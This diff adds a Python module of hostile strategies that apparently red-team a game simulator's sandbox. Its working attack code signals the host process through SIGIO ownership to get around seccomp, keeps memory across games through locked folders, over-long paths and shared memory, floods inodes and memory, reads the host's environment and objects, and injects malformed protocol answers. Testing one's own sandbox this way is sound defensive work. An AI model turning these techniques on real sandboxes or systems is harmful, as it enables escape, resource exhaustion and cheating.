@@ -1,0 +1,429 @@
+# ruff: noqa: SIM115, B023, BLE001  (attack code: short-lived files, probes in loops)
+"""Hostile strategies of a third independent pass on ``--isolate`` (benchmarks/hostile_pass3).
+
+Each plays like a planner and reports on stderr (``HOSTILE <name>: ...``), which reaches the
+run's terminal marked as the guest's."""
+
+from __future__ import annotations
+
+import ctypes
+import errno
+import fcntl
+import gc
+import json
+import os
+import signal
+import sys
+import threading
+import time
+
+from sims.strategies.planner import Planner
+
+F_SETSIG = 10  # linux/fcntl.h
+
+
+def say(name: str, text: str) -> None:
+    sys.stderr.write(f"HOSTILE {name}: {text}\n")
+    sys.stderr.flush()
+
+
+def _try(fn):
+    try:
+        return fn()
+    except BaseException as exc:
+        return f"{type(exc).__name__}: {exc}"
+
+
+# ------------------------------------------------------------------ signalling the host
+def sigio_to(pid: int, sig: int) -> str:
+    """Have the kernel send ``sig`` to ``pid`` (no kill(2): the seccomp filter denies it):
+    the read end of a pipe of our own gets O_ASYNC, owner ``pid``, signal ``sig``; a write
+    to the pipe makes the kernel deliver it (sigio_perm: same uid is enough)."""
+    r, w = os.pipe()
+    fcntl.fcntl(r, fcntl.F_SETOWN, pid)
+    fcntl.fcntl(r, F_SETSIG, sig)
+    fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
+    os.write(w, b"x")
+    return f"F_SETOWN {pid} F_SETSIG {sig} O_ASYNC on a pipe; wrote 1 byte"
+
+
+class SigioHost(Planner):
+    """SIGINT to the host (pid 1 of the sandbox) through SIGIO ownership of a pipe: Python's
+    default handler raises KeyboardInterrupt in the host, which dies; the worker reads its
+    end as the machine's (GuestLost) and voids or replays the game."""
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        say("SigioHost", _try(lambda: sigio_to(1, signal.SIGINT)))
+        time.sleep(0.5)
+
+
+class SigioWhenSecond(Planner):
+    """The same, only in the games where it sits second: the games it chooses are voided."""
+
+    def decide(self, view):
+        if view.seat == 1:
+            say("SigioWhenSecond", f"seat {view.seat}: " + _try(lambda: sigio_to(1, signal.SIGINT)))
+            time.sleep(0.5)
+        return super().decide(view)
+
+
+class SigioProbe(Planner):
+    """Which signals reach pid 1 through SIGIO ownership: SIGTERM/SIGKILL/SIGSTOP (default
+    handlers: an init of its pid namespace ignores them), then SIGINT last."""
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        for sig in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGUSR1):
+            say("SigioProbe", f"sig {sig}: " + _try(lambda: sigio_to(1, sig)))
+            time.sleep(0.3)
+        say("SigioProbe", "host still alive after SIGTERM/KILL/STOP/USR1 via SIGIO")
+
+
+# ------------------------------------------------------------------ memory across games
+LOCKED = "/tmp/locked"
+MEMO = LOCKED + "/memo.json"
+
+
+def _memo_read() -> dict:
+    try:
+        os.chmod(LOCKED, 0o700)
+        with open(MEMO) as file:
+            return json.load(file)
+    except (OSError, ValueError):
+        return {"games": 0, "deals": {}}
+
+
+def _memo_write(memo: dict) -> None:
+    os.makedirs(LOCKED, exist_ok=True)
+    os.chmod(LOCKED, 0o700)
+    with open(MEMO, "w") as file:
+        json.dump(memo, file)
+    os.chmod(LOCKED, 0)  # the host (no capabilities) can neither list nor empty it
+
+
+class LockedMemo(Planner):
+    """Memory across games of a host in its private /tmp: a folder of mode 000, which the
+    host's cleanup (``_empty_tmp``: os.walk, unlink, rmdir) cannot list, so cannot empty.
+    Counts games, and remembers each deal's opening hand by its face-up row; in a paired
+    study (pairing = "seatings") a deal seen before from the other seat tells the hand the
+    rival holds now."""
+
+    first = True
+
+    def decide(self, view):
+        if self.first:
+            self.first = False
+            memo = _memo_read()
+            memo["games"] += 1
+            key = repr(view.face_up)
+            seen = memo["deals"].get(key)
+            if seen is not None and seen["seat"] != view.seat:
+                say(
+                    "LockedMemo",
+                    f"game {memo['games']} seat {view.seat}: deal seen before from seat "
+                    f"{seen['seat']}; the rival's opening hand is {seen['hand']} tickets "
+                    f"{seen['held']} (mine now {list(view.hand)})",
+                )
+            else:
+                say("LockedMemo", f"game {memo['games']} seat {view.seat}: new deal")
+            memo["deals"][key] = {
+                "seat": view.seat,
+                "hand": list(view.hand),
+                "held": list(view.held_ids) + list(view.offer_ids),
+            }
+            _memo_write(memo)
+        return super().decide(view)
+
+
+class DeepMemo(Planner):
+    """Memory across games through a folder chain deeper than PATH_MAX (4096): the host's
+    cleanup joins whole paths, which the kernel refuses past that length (ENAMETOOLONG)."""
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        here = os.getcwd()
+        try:
+            os.chdir("/tmp")
+            name = "d" * 200
+            for _ in range(25):  # 25 x 201 > 4096
+                if not os.path.isdir(name):
+                    os.mkdir(name)
+                os.chdir(name)
+            count = 0
+            if os.path.exists("count"):
+                with open("count") as file:
+                    count = int(file.read())
+            with open("count", "w") as file:
+                file.write(str(count + 1))
+            say("DeepMemo", f"games seen before this one: {count}")
+        except OSError as exc:
+            say("DeepMemo", f"{type(exc).__name__}: {exc}")
+        finally:
+            os.chdir(here)
+
+
+# ------------------------------------------------------------------ System V IPC
+libc = None
+
+
+def _libc():
+    global libc
+    if libc is None:
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.shmat.restype = ctypes.c_void_p
+        libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
+        libc.shmdt.argtypes = [ctypes.c_void_p]
+        libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
+    return libc
+
+
+IPC_CREAT = 0o1000
+MEMO_KEY = 0x4D454D4F
+
+
+class IpcMemo(Planner):
+    """Memory across games in a System V shared memory segment: the sandbox's IPC namespace
+    lives as long as its host (every game of a worker), not a game."""
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        try:
+            c = _libc()
+            sid = c.shmget(MEMO_KEY, 4096, IPC_CREAT | 0o600)
+            if sid < 0:
+                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+            addr = c.shmat(sid, None, 0)
+            if addr in (None, ctypes.c_void_p(-1).value):
+                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+            counter = ctypes.c_int.from_address(addr)
+            say("IpcMemo", f"games seen before this one: {counter.value}")
+            counter.value += 1
+            c.shmdt(addr)
+        except Exception as exc:
+            say("IpcMemo", f"{type(exc).__name__}: {exc}")
+
+
+class IpcHog(Planner):
+    """Memory past the address-space limit (1 GiB): segments of 512 MiB, each attached,
+    filled and detached in turn; they stay in the host's IPC namespace after the game."""
+
+    SEGMENTS = 4
+    SIZE = 512 << 20
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        try:
+            c = _libc()
+            made = 0
+            for i in range(self.SEGMENTS):
+                sid = c.shmget(0, self.SIZE, IPC_CREAT | 0o600)  # IPC_PRIVATE
+                if sid < 0:
+                    say("IpcHog", f"shmget {i}: {os.strerror(ctypes.get_errno())}")
+                    break
+                addr = c.shmat(sid, None, 0)
+                if addr in (None, ctypes.c_void_p(-1).value):
+                    say("IpcHog", f"shmat {i}: {os.strerror(ctypes.get_errno())}")
+                    break
+                ctypes.memset(addr, 7, self.SIZE)
+                c.shmdt(addr)
+                made += 1
+            with open("/proc/sysvipc/shm") as file:
+                rows = file.read().splitlines()[1:]
+            total = sum(int(r.split()[3]) for r in rows)
+            rss = [ln for ln in open("/proc/self/status") if ln.startswith(("VmRSS", "VmPeak"))]
+            say(
+                "IpcHog",
+                f"made {made} segments now; the IPC namespace holds {len(rows)} segments, "
+                f"{total >> 20} MiB (RLIMIT_AS 1024 MiB); this process: "
+                f"{' '.join(' '.join(r.split()) for r in rss)}",
+            )
+        except Exception as exc:
+            say("IpcHog", f"{type(exc).__name__}: {exc}")
+
+
+# ------------------------------------------------------------------ /dev and tmpfs inodes
+class DevWrite(Planner):
+    """Whether /dev (bwrap's own tmpfs, not the remounted root) takes files, how big, and
+    whether they outlive the game (the host empties only /tmp and /dev/shm)."""
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        out = {"listdir": _try(lambda: sorted(os.listdir("/dev")))}
+        st = _try(lambda: os.statvfs("/dev"))
+        out["statvfs"] = _try(lambda: f"{st.f_blocks * st.f_frsize >> 20} MiB, {st.f_files} inodes")
+        out["before"] = _try(lambda: open("/dev/memo").read())
+
+        def write():
+            with open("/dev/memo", "a") as file:
+                file.write("x")
+            return os.path.getsize("/dev/memo")
+
+        out["write /dev/memo"] = _try(write)
+        out["mqueue"] = _try(lambda: os.listdir("/dev/mqueue"))
+        say("DevWrite", json.dumps(out, default=str)[:1500])
+
+
+class InodeFlood(Planner):
+    """Kernel memory the tmpfs size limit does not count: empty files cost inodes and
+    dentries, not blocks. A thread creates them through the game (its CPU time only); the
+    host then unlinks them after the game, on its own time."""
+
+    FILES = 200_000
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        os.makedirs("/tmp/flood", exist_ok=True)
+        start = time.perf_counter()
+        slab0 = _meminfo("Slab")
+        made = 0
+        try:
+            for i in range(self.FILES):
+                os.close(os.open(f"/tmp/flood/{i}", os.O_CREAT | os.O_WRONLY, 0o600))
+                made += 1
+        except OSError as exc:
+            say("InodeFlood", f"stopped at {made}: {exc}")
+        st = os.statvfs("/tmp")
+        say(
+            "InodeFlood",
+            f"{made} files in {time.perf_counter() - start:.1f} s; /tmp inodes used "
+            f"{st.f_files - st.f_ffree} of {st.f_files}, blocks free "
+            f"{st.f_bfree * st.f_frsize >> 20} MiB; host Slab {slab0} -> {_meminfo('Slab')} kB",
+        )
+
+
+def _meminfo(name: str) -> int:
+    with open("/proc/meminfo") as file:
+        for line in file:
+            if line.startswith(name + ":"):
+                return int(line.split()[1])
+    return -1
+
+
+class LockedFlood(Planner):
+    """InodeFlood in a folder of mode 000: never emptied, so each game adds to it."""
+
+    FILES = 100_000
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        d = "/tmp/lockedflood"
+        os.makedirs(d, exist_ok=True)
+        os.chmod(d, 0o700)
+        before = len(os.listdir(d))
+        for i in range(before, before + self.FILES):
+            os.close(os.open(f"{d}/{i}", os.O_CREAT | os.O_WRONLY, 0o600))
+        os.chmod(d, 0)
+        say("LockedFlood", f"files there before this game: {before}; now {before + self.FILES}")
+
+
+# ------------------------------------------------------------------ reading outside
+class Probe3(Planner):
+    """What a game's process sees: mounts (host paths), pid 1, its own fds, sysvipc, the
+    host's memory left in its own (forked) heap."""
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        out = {
+            "pids": sorted(p for p in os.listdir("/proc") if p.isdigit()),
+            "1/cmdline": _try(lambda: open("/proc/1/cmdline", "rb").read().split(b"\0")),
+            "1/status": _try(lambda: [ln.strip() for ln in open("/proc/1/status")
+                                      if ln.startswith(("Name", "Uid", "Seccomp", "NoNewPrivs"))]),
+            "1/environ": _try(lambda: open("/proc/1/environ", "rb").read()[:200]),
+            "1/fd": _try(lambda: os.listdir("/proc/1/fd")),
+            "self/fd": {f: _try(lambda: os.readlink(f"/proc/self/fd/{f}"))
+                        for f in os.listdir("/proc/self/fd")},
+            "mountinfo": _try(lambda: [ln.split()[4] + " " + ln.split()[5]
+                                       for ln in open("/proc/self/mountinfo")]),
+            "uid_map": _try(lambda: open("/proc/self/uid_map").read()),
+            "hostname": _try(os.uname),
+            "env": dict(os.environ),
+            "net": _try(lambda: os.listdir("/sys/class/net")),
+            "home": _try(lambda: os.listdir(os.path.expanduser("~"))),
+        }
+        # the host's own objects, inherited by fork: what the host read on its control pipe
+        found = []
+        for obj in gc.get_objects():
+            if type(obj).__name__ in ("_Control", "_Channel"):
+                found.append((type(obj).__name__, _try(lambda: dict(vars(obj)))))
+        out["host objects"] = str(found)[:600]
+        say("Probe3", json.dumps(out, default=str)[:3800])
+
+
+class StderrRead(Planner):
+    """Its stderr is the worker's file opened O_RDWR: read back and truncate what the host
+    wrote there, and re-open it through /proc/self/fd/2 without O_APPEND."""
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        out = {
+            "flags": _try(lambda: oct(fcntl.fcntl(2, fcntl.F_GETFL))),
+            "read": _try(lambda: os.pread(2, 300, 0)),
+            "reopen": _try(lambda: os.open("/proc/self/fd/2", os.O_RDWR)),
+            "link": _try(lambda: os.readlink("/proc/self/fd/2")),
+        }
+        say("StderrRead", json.dumps(out, default=str))
+
+
+# ------------------------------------------------------------------ raw answers
+def _channel():
+    for obj in gc.get_objects():
+        if type(obj).__name__ == "_Channel":
+            return obj
+    raise RuntimeError("no channel")
+
+
+class RawAnswer(Planner):
+    """Writes answers straight on the game pipe, skipping the host's own encoding: each a
+    malformed form of a legal action (KNOB ``form`` picks it)."""
+
+    FORMS = {
+        "nan_slot": '{"action": {"type": "draw_face_up", "slot": NaN}}',
+        "float_slot": '{"action": {"type": "draw_face_up", "slot": 0.0}}',
+        "true_slot": '{"action": {"type": "draw_face_up", "slot": true}}',
+        "neg_slot": '{"action": {"type": "draw_face_up", "slot": -5}}',
+        "str_slot": '{"action": {"type": "draw_face_up", "slot": "0"}}',
+        "extra": '{"action": {"type": "draw_deck", "x": 1}}',
+        "both": '{"action": {"type": "draw_deck"}, "shape": ["const", null]}',
+        "dup": '{"action": {"type": "draw_deck"}, "action": {"type": "pass"}}',
+        "shape_nan": '{"shape": ["action", "DrawFaceUp", [["float", "nan"]]]}',
+        "shape_inf": '{"shape": ["action", "DrawFaceUp", [["float", "inf"]]]}',
+        "shape_short": '{"shape": ["action", "DrawFaceUp", []]}',
+        "shape_long": '{"shape": ["action", "DrawDeck", [["int", 1], ["int", 2]]]}',
+        "shape_kd": '{"shape": ["action", "KeepDestinations", [["list", [["int", 0]]]]]}',
+        "bigint": '{"action": {"type": "draw_face_up", "slot": 1' + "0" * 5000 + "}}",
+        "utf16": '{"action": {"type": "draw_\\u0064eck"}}',
+    }
+
+    form = "nan_slot"
+
+    def decide(self, view):
+        action = super().decide(view)
+        line = self.FORMS[self.form]
+        channel = _channel()
+        channel.writer.write(line.encode() + b"\n")
+        channel.writer.flush()
+        say("RawAnswer", f"wrote {self.form}: {line[:100]}")
+        real = channel.write
+
+        def swallow(message):  # the host's own write of this answer: dropped once
+            channel.write = real
+
+        channel.write = swallow
+        return action
+
+
+for _form in RawAnswer.FORMS:
+    _name = "Raw_" + _form
+    globals()[_name] = type(_name, (RawAnswer,), {"form": _form})
+
+
+class SigMask(Planner):
+    """The host's signal dispositions (pid 1), then SIGINT through SIGIO, and again."""
+
+    def __init__(self, rng, knobs=None):
+        super().__init__(rng, knobs)
+        lines = [ln.strip() for ln in open("/proc/1/status") if ln.startswith(("Sig", "Shd"))]
+        say("SigMask", f"pid 1 {lines}")
+        mine = [ln.strip() for ln in open("/proc/self/status") if ln.startswith(("Sig", "Shd"))]
+        say("SigMask", f"self {mine}")
